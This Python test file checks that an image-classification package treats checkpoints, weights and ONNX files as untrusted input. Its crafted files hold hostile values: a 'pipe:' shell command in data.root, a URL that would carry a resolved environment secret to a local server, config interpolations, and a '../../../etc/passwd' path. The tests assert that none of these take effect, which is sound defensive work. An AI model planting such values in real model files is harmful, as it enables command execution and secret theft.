"""A checkpoint, weights file or ONNX file is untrusted input: it gives the network, its val preprocessing and its
class names, never where data is or how it is read (inference/trained.py).

A crafted checkpoint holds tensors and plain containers only, so torch.load(weights_only=True) accepts it; before
these checks its stored data.root ran as a shell command (`pipe:`), sent an environment variable to a URL
(`${oc.env:...}` resolved), and its trace_dir made DALI write where the file said. Each test runs the real commands
(evaluate.py, imgcls.classify, imgcls.export) on such files, made from the suite's tiny checkpoint.
"""

from __future__ import annotations

import json
import re
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import onnx
import pytest
import torch

from imgcls.errors import CheckpointError
from imgcls.export import export_weights
from imgcls.export import run as export
from imgcls.inference.onnx_model import METADATA_KEY, load_onnx
from imgcls.inference.trained import load_trained
from imgcls.run.evaluate import run as evaluate
from tests import warm_python
from tests.conftest import ROOT, assert_one_line_error, compose_config, read_report, tiny_run

SECRET_VARIABLE = "IMGCLS_FAKE_SECRET"
SECRET = "fake-secret-8c1d2e"  # what a resolved ${oc.env:IMGCLS_FAKE_SECRET} would give
WDS = "webdataset"  # a stored data.format that reads data.root as shard URLs (pipe: runs a shell command)


@pytest.fixture(scope="session")
def trained(tmp_path_factory: pytest.TempPathFactory, image_folder: Path) -> Path:
    return tiny_run(tmp_path_factory, image_folder)


def crafted(trained: Path, out: Path, data: dict[str, Any] | None = None, **hparams: Any) -> Path:
    """The tiny checkpoint with some of its stored data config replaced (and other hyper_parameters), as an
    attacker would write it: plain containers only, which torch.load(weights_only=True) reads."""
    blob = torch.load(trained / "checkpoints" / "last.ckpt", map_location="cpu", weights_only=True)
    blob["hyper_parameters"]["run_config"]["data"].update(data or {})
    for key, value in hparams.items():
        blob["hyper_parameters"][key] = value
    torch.save(blob, out)
    torch.load(out, map_location="cpu", weights_only=True)  # what every imgcls reader accepts
    return out


class Requests:
    """A real HTTP server on 127.0.0.1 in a thread that counts the requests it gets (answering 404)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                seen.append(self.path)
                self.send_error(404)

            do_HEAD = do_GET  # noqa: N815
            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def requests() -> Iterator[Requests]:
    server = Requests()
    yield server
    server.close()


@pytest.fixture(scope="module")
def files(trained: Path, requests: Requests, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("crafted")
    marker = tmp / "MARKER"
    leak = f"http://127.0.0.1:{requests.port}/leak/${{oc.env:{SECRET_VARIABLE}}}"
    return {
        "tmp": tmp,
        "marker": marker,
        "pipe": crafted(trained, tmp / "pipe.ckpt", {"root": f"pipe:touch {marker}; echo {{}} #", "format": WDS}),
        "http": crafted(trained, tmp / "http.ckpt", {"root": leak, "format": WDS}),
        "interpolated": crafted(trained, tmp / "interpolated.ckpt", {"interpolation": "${oc.env:IMGCLS_FAKE_INTERP}"}),
    }


@pytest.fixture(scope="module")
def cli(files: dict[str, Path], image_folder: Path) -> dict[str, subprocess.CompletedProcess]:
    """The commands a user would run on the crafted files, as real processes, concurrently."""
    tmp = files["tmp"]
    evaluate_py = [str(ROOT / "evaluate.py"), "trainer.enable_progress_bar=false"]
    int8 = ["-m", "imgcls.export", "format=int8", "calibration.images=8", "calibration.batch_size=4"]
    cases = {
        "pipe_root": [*evaluate_py, f"ckpt={files['pipe']}", f"data.root={image_folder}", f"hydra.run.dir={tmp / 'a'}"],
        "pipe_no_root": [*evaluate_py, f"ckpt={files['pipe']}", f"hydra.run.dir={tmp / 'b'}"],
        "http_root": [*evaluate_py, f"ckpt={files['http']}", f"data.root={image_folder}", f"hydra.run.dir={tmp / 'c'}"],
        "http_no_root": [*evaluate_py, f"ckpt={files['http']}", f"hydra.run.dir={tmp / 'd'}"],
        "interpolated": [*evaluate_py, f"ckpt={files['interpolated']}", f"data.root={image_folder}",
                         f"hydra.run.dir={tmp / 'e'}"],
        "classify_pipe": ["-m", "imgcls.classify", f"ckpt={files['pipe']}", f"images=[{image_folder / 'val'}]",
                          "--json"],
        "int8_pipe": [*int8, f"ckpt={files['pipe']}", f"data.root={image_folder}", f"output={tmp / 'pipe.onnx'}"],
        "int8_http_no_root": [*int8, f"ckpt={files['http']}", f"output={tmp / 'http.onnx'}"],
    }  # fmt: skip
    env = {"WANDB_MODE": "offline", SECRET_VARIABLE: SECRET, "IMGCLS_FAKE_INTERP": "bilinear"}
    procs = {name: warm_python.start(args, env=env) for name, args in cases.items()}
    results = {}
    for name, proc in procs.items():
        out, err = proc.communicate(timeout=600)
        results[name] = subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
    return results


@pytest.mark.slow
def test_no_command_runs_the_stored_pipe_root_or_sends_a_request(
    cli: dict[str, subprocess.CompletedProcess], files: dict[str, Path], requests: Requests
) -> None:
    assert not files["marker"].exists()  # `pipe:touch MARKER` never ran
    assert requests.paths == []  # the stored http root was never fetched
    for name, result in cli.items():
        assert SECRET not in result.stdout + result.stderr, name  # ${oc.env:...} was never resolved


@pytest.mark.slow
def test_evaluate_reads_the_users_data_root_not_the_checkpoints(
    cli: dict[str, subprocess.CompletedProcess], trained: Path, image_folder: Path, files: dict[str, Path]
) -> None:
    last_row = read_report(trained)["epochs"][-1]
    for name, folder in (("pipe_root", "a"), ("http_root", "c")):
        assert cli[name].returncode == 0, cli[name].stderr[-2000:]
        document = json.loads((files["tmp"] / folder / "eval.json").read_text())
        assert document["data.root"] == str(image_folder)  # and data.format: the user's (folder), not webdataset
        assert document["val.top1"] == last_row["val.top1"]  # the honest numbers: same network, same val images


@pytest.mark.slow
@pytest.mark.parametrize("case", ["pipe_no_root", "http_no_root"])
def test_evaluate_without_data_root_is_one_line(cli: dict[str, subprocess.CompletedProcess], case: str) -> None:
    assert_one_line_error(cli[case], "data.root=PATH is required to evaluate ckpt=")


@pytest.mark.slow
def test_classify_and_export_use_no_stored_data(
    cli: dict[str, subprocess.CompletedProcess], files: dict[str, Path], image_folder: Path
) -> None:
    classify = cli["classify_pipe"]
    assert classify.returncode == 0, classify.stderr[-2000:]
    assert len(json.loads(classify.stdout)) == len(list((image_folder / "val").rglob("*.jpg")))
    # int8 calibrates on the command line's folder (the stored data.format=webdataset would refuse a folder)...
    assert cli["int8_pipe"].returncode == 0, cli["int8_pipe"].stderr[-2000:]
    assert (files["tmp"] / "pipe.onnx").is_file()
    # ...and without data.root= it asks for one instead of taking the file's.
    assert_one_line_error(cli["int8_http_no_root"], "format=int8 needs data.root=DIR")


@pytest.mark.slow
def test_an_interpolated_preprocessing_value_is_one_line_on_the_command_line(
    cli: dict[str, subprocess.CompletedProcess],
) -> None:
    assert_one_line_error(cli["interpolated"], "run_config.data.interpolation='${oc.env:IMGCLS_FAKE_INTERP}'")


@pytest.mark.slow
def test_stored_trace_dir_cache_and_storage_options_are_not_used(
    trained: Path, image_folder: Path, requests: Requests, tmp_path: Path
) -> None:
    evil = tmp_path / "evil"
    data = {
        "trace_dir": str(evil / "trace"),
        "shard_cache": str(evil / "cache"),
        "index_dir": str(evil / "index"),
        "storage_options": {"endpoint_url": f"http://127.0.0.1:{requests.port}/options"},
        "backend": "dali_cpu",
    }
    ckpt = crafted(trained, tmp_path / "trace.ckpt", data)
    before = list(requests.paths)
    overrides = [
        f"ckpt={ckpt}",
        f"data.root={image_folder}",
        "data.backend=dali_cpu",
        "trainer.enable_progress_bar=false",
    ]
    metrics = evaluate(compose_config(overrides, config_name="evaluate", run_dir=tmp_path / "run"))
    assert metrics["val.top1"] >= 0
    assert not evil.exists()  # dali_cpu traces only where the user's data.trace_dir says (nowhere by default)
    assert requests.paths == before


# A stored value that is not a plain value of its type: refused in one line naming it, never resolved.
@pytest.mark.parametrize(
    "data, named",
    [
        ({"interpolation": "${oc.env:IMGCLS_FAKE_INTERP}"}, "run_config.data.interpolation="),
        ({"image_size": "${oc.env:IMGCLS_FAKE_SIZE}"}, "run_config.data.image_size="),
        ({"image_size": "32"}, "run_config.data.image_size='32'"),
        ({"mean": [0.5, "0.5", 0.5]}, "run_config.data.mean="),
        ({"val_crop_pct": True}, "run_config.data.val_crop_pct=True"),
        ({"interpolation": "pipe:id"}, "run_config.data.interpolation='pipe:id'"),
    ],
)
def test_a_stored_preprocessing_value_must_be_plain(
    trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: dict[str, Any], named: str
) -> None:
    monkeypatch.setenv("IMGCLS_FAKE_INTERP", "bilinear")  # resolved, the value would pass as a real one
    monkeypatch.setenv("IMGCLS_FAKE_SIZE", "32")
    with pytest.raises(CheckpointError, match=f"^ckpt=.*evil.ckpt holds {re.escape(named)}"):
        load_trained(crafted(trained, tmp_path / "evil.ckpt", data))


@pytest.mark.parametrize(
    "hparams, named",
    [
        ({"classes": ["class_0", "${oc.env:IMGCLS_FAKE_SECRET}", "class_2"]}, "classes='${oc.env:"),
        ({"classes": ["class_0", 1, "class_2"]}, "classes=1"),
        ({"model": {"name": "resnet18", "arch": "${oc.env:IMGCLS_FAKE_ARCH}"}}, "model.arch="),
        ({"model": {"name": "resnet18", "arch": "hf-hub:someone/model"}}, "model.arch='hf-hub:someone/model'"),
        ({"plan": {"per_device_batch": "${oc.env:IMGCLS_FAKE_SIZE}"}}, "plan.per_device_batch="),
    ],
)
def test_stored_classes_model_and_batch_must_be_plain(
    trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hparams: dict[str, Any], named: str
) -> None:
    monkeypatch.setenv(SECRET_VARIABLE, SECRET)
    monkeypatch.setenv("IMGCLS_FAKE_ARCH", "test_resnet")
    monkeypatch.setenv("IMGCLS_FAKE_SIZE", "8")
    data = {"batch_size": None}  # the plan's batch is the val batch then
    with pytest.raises(CheckpointError, match=f"holds {re.escape(named)}") as caught:
        load_trained(crafted(trained, tmp_path / "evil.ckpt", data, **hparams))
    assert SECRET not in str(caught.value)


def test_a_stored_precision_name_must_be_one_of_the_users_files(trained: Path, tmp_path: Path) -> None:
    blob = torch.load(trained / "checkpoints" / "last.ckpt", map_location="cpu", weights_only=True)
    blob["hyper_parameters"]["run_config"]["precision"]["name"] = "../../../etc/passwd"
    torch.save(blob, tmp_path / "evil.ckpt")
    with pytest.raises(CheckpointError, match=r"holds precision.name='../../../etc/passwd'.*one of amp, bf16"):
        load_trained(tmp_path / "evil.ckpt")


@pytest.mark.slow
def test_weights_and_onnx_files_are_checked_alike(
    trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IMGCLS_FAKE_INTERP", "bilinear")
    ckpt = trained / "checkpoints" / "last.ckpt"
    export_weights(load_trained(ckpt), tmp_path / "weights.pt")
    blob = torch.load(tmp_path / "weights.pt", map_location="cpu", weights_only=True)
    blob["preprocessing"]["interpolation"] = "${oc.env:IMGCLS_FAKE_INTERP}"
    torch.save(blob, tmp_path / "evil.pt")
    with pytest.raises(CheckpointError, match=r"evil.pt holds preprocessing.interpolation='\$\{oc.env"):
        load_trained(tmp_path / "evil.pt")

    export(compose_config([f"ckpt={ckpt}", "format=onnx", f"output={tmp_path / 'model.onnx'}"], config_name="export"))
    model = onnx.load(str(tmp_path / "model.onnx"))
    entry = next(e for e in model.metadata_props if e.key == METADATA_KEY)
    metadata = json.loads(entry.value)
    metadata["preprocessing"]["interpolation"] = "${oc.env:IMGCLS_FAKE_INTERP}"
    entry.value = json.dumps(metadata)
    onnx.save(model, str(tmp_path / "evil.onnx"))
    with pytest.raises(CheckpointError, match=r"evil.onnx holds preprocessing.interpolation='\$\{oc.env"):
        load_onnx(tmp_path / "evil.onnx")
